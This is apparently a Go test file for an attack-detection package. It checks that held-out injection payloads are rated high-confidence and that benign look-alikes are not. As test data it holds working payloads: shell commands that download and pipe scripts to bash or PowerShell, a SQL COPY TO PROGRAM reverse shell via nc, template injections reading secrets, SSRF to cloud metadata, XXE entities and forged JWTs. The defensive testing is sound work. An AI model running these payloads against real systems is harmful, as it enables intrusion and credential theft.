package analyze

import (
	"encoding/base64"
	"encoding/hex"
	"testing"
)

func b64u(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// Weaknesses a held-out corpus found (issue #16): each attack is found
// High, of its class, whatever the text around it.
func TestHeldOutAttacksFoundHigh(t *testing.T) {
	for _, c := range []struct {
		class Class
		place Place
		v     string
	}{
		// 1. shell: a download or a decoded blob piped to a shell,
		// PowerShell in any case, substitutions in a file name
		{Shell, Arg, "$(wget -qO- http://198.51.100.7/i | bash)"},
		{Shell, Arg, "curl -fsS http://203.0.113.9/stage2 | sh"},
		{Shell, Arg, "echo " + base64.StdEncoding.EncodeToString([]byte("id; uname -a")) + " | base64 -d | bash"},
		{Shell, Arg, "echo Y2F0IC9ldGMvcGFzc3dk|base64 --decode|sh"},
		{Shell, Arg, "invoice.pdf | PoWeRsHeLl -c Get-Content C:\\Users\\Public\\secrets.txt"},
		{Shell, Arg, "x & Powershell.EXE -nop -c iex(New-Object Net.WebClient).DownloadString('http://x')"},
		{Shell, Arg, "photo$(whoami).jpg"},
		// 2. SQL: keywords split by comments, COPY TO PROGRAM
		{SQLi, Arg, "5 UN/**/ION SEL/**/ECT 1,username,password FR/**/OM auth_user"},
		{SQLi, Arg, "a' UN/*x*/ION/**/SE/**/LECT null,version()-- -"},
		{SQLi, Arg, "1; COPY (SELECT 1) TO PROGRAM 'nc 203.0.113.9 4444 -e /bin/sh'"},
		{SQLi, Arg, "x'; copy t from program 'id'; --"},
		// 3. templates reading files or the framework's secrets
		{Template, Arg, "{% include '/etc/passwd' %}"},
		{Template, Arg, "{% include \"../../settings.py\" %}"},
		{Template, Arg, "{%print(lipsum)%}"},
		{Template, Arg, "{{ request.META }}"},
		{Template, Arg, "{{request.META.HTTP_COOKIE}}"},
		{Template, Arg, "{{ messages.storages.0.signer.key }}"},
		{Template, Arg, "{{ request.session.items }}"},
		{Template, Arg, "{{ ''\n.__class__\n.__mro__[1]\n.__subclasses__()\n}}"},
		// 4. hex and JWTs
		{XSS, Arg, hex.EncodeToString([]byte("<img src=x onerror=alert(document.domain)>"))},
		{SQLi, Arg, "0x" + hex.EncodeToString([]byte("1' OR '1'='1' -- "))},
		{SQLi, Header, "Bearer " + b64u(`{"alg":"none"}`) + "." + b64u(`{"user":"admin' --","admin":true}`) + "."},
		{Traversal, Arg, b64u(`{"alg":"HS256","kid":"../../../../../dev/null"}`) + "." + b64u(`{"sub":"1"}`) + ".c2ln"},
		{Template, Arg, b64u(`{"alg":"none"}`) + "." + b64u(`{"name":"{{ request.META }}"}`) + "."},
		// 5. SSRF
		{SSRF, Arg, "http://example.com#@169.254.169.254/latest/meta-data/iam/"},
		{SSRF, Arg, "https://trusted.example?@127.0.0.1:6379/"},
		{SSRF, Arg, "http://①②⑦.⓪.⓪.①:8080/admin"},
		{SSRF, Arg, "http://❶❻❾。❷❺❹。❶❻❾。❷❺❹/latest/"},
		{SSRF, Arg, "https://kubernetes.default.svc/api/v1/secrets"},
		{SSRF, Arg, "http://redis.cache.svc.cluster.local:6379/"},
		// 6. XML and SVG
		{XXE, Arg, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>`},
		{XXE, Arg, `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///proc/self/environ"/></svg>`},
		{XXE, Arg, `<svg><image href='file:///etc/hostname'/></svg>`},
	} {
		var r Report
		New(All, c.place).InspectAll(c.v, &r)
		if f := r.Best(Of(c.class)); f.Confidence != High {
			t.Errorf("%q at %d: %s, want %s/high", c.v, c.place, f, c.class)
		}
	}
	// In text, a substitution that runs a download is still run.
	if f := New(All, Arg).Inspect("my name is $(curl -s http://203.0.113.9/a | sh) hi"); f.Class != Shell || f.Confidence < Medium {
		t.Errorf("substitution in text: %s, want rce/medium or more", f)
	}
	// In text, backticks are a Markdown code span: an install
	// instruction quoted in a comment or README is not run (Medium here
	// blocked every tutorial quoting one, with the CRS's 932230/932235).
	for _, v := range []string{
		"To install, run `curl -sSf https://sh.rustup.rs | sh` and follow the prompts. Then restart your shell.",
		"Homebrew's installer is one line: `/bin/bash -c \"$(curl -fsSL https://brew.example/install.sh)\"`, or read it first with `curl -fsSLO https://brew.example/install.sh | less`.",
	} {
		if f := New(All, Arg).Inspect(v); f.Confidence >= Medium {
			t.Errorf("%q: %s, want less than medium", v, f)
		}
	}
}

// Their benign look-alikes are not High.
func TestHeldOutLookAlikesNotHigh(t *testing.T) {
	for _, v := range []string{
		"Install it with: curl -fsSL https://get.example.com | sh",
		"I use PowerShell -c to run Get-Content on Windows, it works.",
		"O'Reilly - Learning SQL.pdf",
		"Résumé – Jane O'Neil (2024).pdf",
		"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
		".logo{background:url(data:image/svg+xml;base64," + base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>`)) + ")}",
		base64.StdEncoding.EncodeToString([]byte(`{"return": "/blog/2025/05/post/", "ts": 1717}`)),
		b64u(`{"next":"/shop/cart/?step=2","csrf":"x'y"}`),
		b64u(`{"alg":"HS256","typ":"JWT"}`) + "." + b64u(`{"sub":"42","name":"Seán O'Brien"}`) + ".c2lnbmF0dXJl",
		"<pre><code>&lt;script src=\"https://cdn.example.com/app.js\"&gt;&lt;/script&gt;</code></pre>",
		"<p>Escape it: <code>&lt;img src=x onerror=alert(1)&gt;</code> is what an attacker sends.</p>",
		"query { article(id: 5) { title author { name } } }",
		"a1b2c3d4e5f60718293a4b5c6d7e8f90",
		hex.EncodeToString([]byte("Thanks for the order, it's on its way!")),
		"{% include 'partials/header.html' %}",
		"{{ request.user.username }}",
		"http://docs.example.com/page#@anchor",
		"Our pods talk to kubernetes.default.svc inside the cluster.",
		`<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE x [<!ENTITY co "Acme &amp; Co">]><text>&co;</text></svg>`,
		"1 UNION/**/ALL: a list of words",
	} {
		if f := New(All, Arg).Inspect(v); f.Confidence == High {
			t.Errorf("%q: %s", v, f)
		}
	}
	// Entity-encoded attacks where the browser decodes them stay found.
	for _, v := range []string{
		`<a href="jav&#x61;script:alert(1)">x</a>`,
		`<p>hi</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		"&lt;svg onload=alert(1)&gt;",
	} {
		if f := New(All, Arg).Inspect(v); f.Class != XSS || f.Confidence != High {
			t.Errorf("%q: %s, want xss/high", v, f)
		}
	}
}

func TestInert(t *testing.T) {
	svg := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`))
	for v, want := range map[string]bool{
		"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB":                        true,
		"body { background: url(data:image/svg+xml;base64," + svg + ") no-repeat; }":    true,
		"<pre><code>&lt;script src=&quot;/app.js&quot;&gt;&lt;/script&gt;</code></pre>": true,
		"query Q($id: ID!) { article(id: $id) { title, author { name } } }":             true,
		"{ viewer { login } }": true,
		"{l,-lh}s":             false,
		"{,ifconfig,eth0}":     false,
		`{"a": {"b": 1}}`:      false,
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==":  false,
		"data:image/png;base64,iVBORw0KGgo=; cat /etc/passwd":         false,
		"data:image/png;base64,iVBORw0KGgo=<script>alert(1)</script>": false,
		"<pre onclick=alert(1)><code>&lt;b&gt;</code></pre>":          false,
		"<pre><code>&lt;b&gt;</code></pre><script>alert(1)</script>":  false,
		`query { user(name: "x' OR 1=1--") { id } }`:                  false,
		"1 UNION SELECT password FROM users":                          false,
		"{{ request.META }}":                                          false,
	} {
		if got := Inert(v); got != want {
			t.Errorf("Inert(%q) = %v, want %v", v, got, want)
		}
	}
}
